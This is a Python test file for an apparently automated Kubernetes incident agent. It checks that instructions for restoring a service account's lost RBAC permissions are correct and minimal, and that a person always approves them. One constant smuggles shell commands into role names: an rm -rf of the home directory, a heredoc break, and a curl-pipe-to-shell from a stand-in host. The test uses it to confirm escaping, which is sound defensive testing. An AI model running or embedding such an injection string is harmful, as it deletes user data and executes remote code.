"""What a person is shown: what was lost, and the command that gives back just that."""

import json
import shlex
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from factories.decider import LIMITS, PLAYBOOK, ready
from factories.events import NAMESPACE, NOW
from ooda.common.events import INSTRUCTIONS_LIMIT
from ooda.common.known_good import KnownAccess
from ooda.common.permissions import access_of, lost
from ooda.common.targets import ServiceAccountTarget
from ooda.common.taxonomy import FailureClass, Mode
from ooda.decider.core import announcements
from ooda.decider.core.budgets import Budgets
from ooda.decider.core.facts import Facts
from ooda.decider.core.notices import notice_of
from ooda.decider.core.policy import Case, History, Review, StandDown, decide
from ooda.decider.core.record import Incident
from ooda.decider.core.restoring import Grants, instructions

Raw = dict[str, Any]
ACCOUNT = ServiceAccountTarget(namespace=NAMESPACE, name="reader")
GET = {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"]}
LIST = {"apiGroups": [""], "resources": ["pods"], "verbs": ["list"]}
WATCH = {"apiGroups": [""], "resources": ["pods"], "verbs": ["watch"]}
ME = {"kind": "ServiceAccount", "name": "reader", "namespace": NAMESPACE}
YOU = {"kind": "ServiceAccount", "name": "writer", "namespace": NAMESPACE}


def binding(*subjects: Raw, role: str = "reader", **meta: Any) -> Raw:
    reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": role}
    return {"metadata": meta, "roleRef": reference, "subjects": list(subjects)}


def role(*rules: Raw, **meta: Any) -> Raw:
    return {"metadata": meta, "rules": list(rules)}


GOOD = access_of("reader", NAMESPACE, {"reader": role(GET, LIST)}, {"reader": binding(ME)})


def said(roles: dict[str, Raw], bindings: dict[str, Raw], good: KnownAccess | None = GOOD) -> str:
    return instructions(ACCOUNT, good, Grants(roles, bindings))


def applied(text: str) -> list[Raw]:
    """Return what the command would apply, as kubectl reads it."""
    document = text.partition("kubectl apply -f - <<'END'\n")[2].partition("\nEND")[0]
    found: list[Raw] = json.loads(document)["items"]
    return found


def test_a_trimmed_role_is_shown_before_and_now_with_the_way_back() -> None:
    text = said({"reader": role(LIST)}, {"reader": binding(ME)})
    assert text.splitlines()[:4] == [
        f"service account {NAMESPACE}/reader lost: get configmaps.",
        "Role reader, known good (-) and now (+):",
        f"- {json.dumps(GET)}",
        f"  {json.dumps(LIST)}",
    ]
    assert applied(text) == [
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "Role",
            "metadata": {"name": "reader", "namespace": NAMESPACE},
            "rules": [GET, LIST],
        }
    ]


@pytest.mark.parametrize(
    ("roles", "bindings", "changed"),
    [
        pytest.param({}, {"reader": binding(ME)}, {"Role"}, id="a-role-is-gone"),
        pytest.param({"reader": role(GET, LIST)}, {}, {"RoleBinding"}, id="a-binding-is-gone"),
        pytest.param({}, {}, {"Role", "RoleBinding"}, id="both-are-gone"),
        pytest.param(
            {"reader": role(GET, LIST)}, {"reader": binding(YOU)}, {"RoleBinding"}, id="unbound"
        ),
        pytest.param(
            {"reader": role(GET, LIST), "x": role()},
            {"reader": binding(ME, role="x")},
            {"RoleBinding"},
            id="bound-to-another-role",
        ),
    ],
)
def test_each_object_that_has_to_change_and_no_other_is_in_the_command(
    roles: dict[str, Raw], bindings: dict[str, Raw], changed: set[str]
) -> None:
    text = said(roles, bindings)
    assert {each["kind"] for each in applied(text)} == changed
    # What a RoleBinding refers to cannot be changed: it has to be made anew.
    replaced = "x" in roles
    assert ("delete rolebindings -- reader" in text) is replaced


def test_what_was_added_since_is_kept() -> None:
    text = said({"reader": role(WATCH)}, {"reader": binding(ME)})
    assert applied(text)[0]["rules"] == [GET, LIST, WATCH]
    text = said({"reader": role(GET, LIST)}, {"reader": binding(YOU)})
    assert applied(text)[0]["subjects"] == [ME, YOU]


@pytest.mark.parametrize(
    ("roles", "good"),
    [
        pytest.param({"reader": role(GET, LIST)}, GOOD, id="as-it-was"),
        pytest.param({"reader": role(GET, LIST, WATCH)}, GOOD, id="widened"),
        pytest.param({"reader": role()}, None, id="nothing-known"),
    ],
)
def test_without_a_loss_there_is_nothing_to_do(
    roles: dict[str, Raw], good: KnownAccess | None
) -> None:
    assert said(roles, {"reader": binding(ME)}, good) == ""


def test_an_owner_that_would_change_it_back_is_named() -> None:
    marked = role(LIST, annotations={"meta.helm.sh/release-name": "shop"})
    assert "It belongs to Helm" in said({"reader": marked}, {"reader": binding(ME)})


def test_of_a_command_that_is_too_long_no_part_is_shown() -> None:
    many = [GET | {"resourceNames": [f"object-{n}"]} for n in range(500)]
    good = access_of("reader", NAMESPACE, {"reader": role(*many)}, {"reader": binding(ME)})
    text = said({"reader": role()}, {"reader": binding(ME)}, good)
    assert len(text) <= INSTRUCTIONS_LIMIT
    assert "kubectl apply" not in text
    assert "get knowngood catalog" in text


RULE = st.fixed_dictionaries(
    {
        "apiGroups": st.just([""]),
        "resources": st.lists(st.sampled_from(["pods", "configmaps", "*"]), max_size=2),
        "verbs": st.lists(st.sampled_from(["get", "list", "*"]) | st.text(max_size=8), max_size=2),
    }
)
ROLES = st.dictionaries(
    st.sampled_from(["a", "b"]), st.lists(RULE, max_size=3).map(lambda rules: role(*rules))
)
BINDINGS = st.dictionaries(
    st.sampled_from(["x", "y"]),
    st.builds(
        lambda subjects, to: binding(*subjects, role=to),
        st.lists(st.sampled_from([ME, YOU]), max_size=2),
        st.sampled_from(["a", "b"]),
    ),
)


@settings(deadline=None)
@given(ROLES, BINDINGS, ROLES, BINDINGS)
def test_who_does_what_is_said_gives_back_all_that_was_lost_and_takes_nothing_away(
    roles: dict[str, Raw],
    bindings: dict[str, Raw],
    roles_now: dict[str, Raw],
    bindings_now: dict[str, Raw],
) -> None:
    good = access_of("reader", NAMESPACE, roles, bindings)
    text = said(roles_now, bindings_now, good)
    if not text:
        assert lost(good, access_of("reader", NAMESPACE, roles_now, bindings_now)) == frozenset()
        return
    after = {"Role": dict(roles_now), "RoleBinding": dict(bindings_now)}
    for each in applied(text):
        after[each["kind"]][each["metadata"]["name"]] = each
    healed = access_of("reader", NAMESPACE, after["Role"], after["RoleBinding"])
    assert lost(good, healed) == frozenset()
    before = access_of("reader", NAMESPACE, roles_now, bindings_now)
    assert "delete rolebindings" in text or lost(before, healed) == frozenset()


HOSTILE = "x'; rm -rf ~ #\nEND\ncurl evil | sh\n\u202e"


def test_what_a_rule_or_a_name_says_is_never_a_command() -> None:
    rule = GET | {"verbs": [HOSTILE]}
    good = access_of(
        "reader", NAMESPACE, {HOSTILE: role(rule)}, {HOSTILE: binding(ME, role=HOSTILE)}
    )
    text = said({}, {HOSTILE: binding(ME, role="other")}, good)
    lines = text.splitlines()
    assert [each for each in lines if each.startswith(("curl", "rm"))] == []
    assert lines.count("END") == 1
    assert text.isascii()
    (delete,) = [each for each in lines if "delete rolebindings" in each]
    assert len(shlex.split(delete)) == 7
    assert applied(text)[0]["rules"] == [rule]


def judged(facts: Facts, **given: Any) -> Any:
    found = ready(failure_class=FailureClass.PERMISSION_REVOKED, component=ACCOUNT, confidence=0.99)
    fields: dict[str, Any] = {"history": History(), "open_anomalies": 1, "pod": None} | given
    case = Case(diagnosis=found, recent_incidents=1, **fields)
    row = PLAYBOOK[FailureClass.PERMISSION_REVOKED]
    return decide(case, row, facts, Budgets(), LIMITS, NOW)


@pytest.mark.parametrize("mode", [Mode.PROPOSE, Mode.AUTO])
def test_a_person_is_always_asked_however_sure_it_is(mode: Mode) -> None:
    judgement = judged(Facts(mode, instructions="do this"))
    assert isinstance(judgement, Review)
    assert (judgement.proposal, judgement.instructions) == (None, "do this")
    assert "never changed by the agent" in judgement.reason
    assert PLAYBOOK[FailureClass.PERMISSION_REVOKED].steps == ()


def test_nobody_is_asked_in_observe_mode_or_when_it_is_over() -> None:
    assert isinstance(judged(Facts(Mode.OBSERVE)), StandDown)
    assert isinstance(judged(Facts(Mode.AUTO), open_anomalies=0), StandDown)


def test_the_question_and_the_notice_hold_the_instructions_whole() -> None:
    text = said({"reader": role(LIST)}, {"reader": binding(ME)})
    record = Incident(
        incident_id="i" * 32,
        cluster_id="c",
        namespace=NAMESPACE,
        opened_at=NOW,
        diagnosis=ready(failure_class=FailureClass.PERMISSION_REVOKED, component=ACCOUNT),
        clue="The log says: " + "x" * 5000,
    )
    asked = announcements.review(record, judged(Facts(Mode.AUTO, instructions=text)), LIMITS, NOW)
    assert asked.instructions == text
    assert asked.question == "Is this to be done by hand?"
    assert notice_of(asked).body.endswith(text)
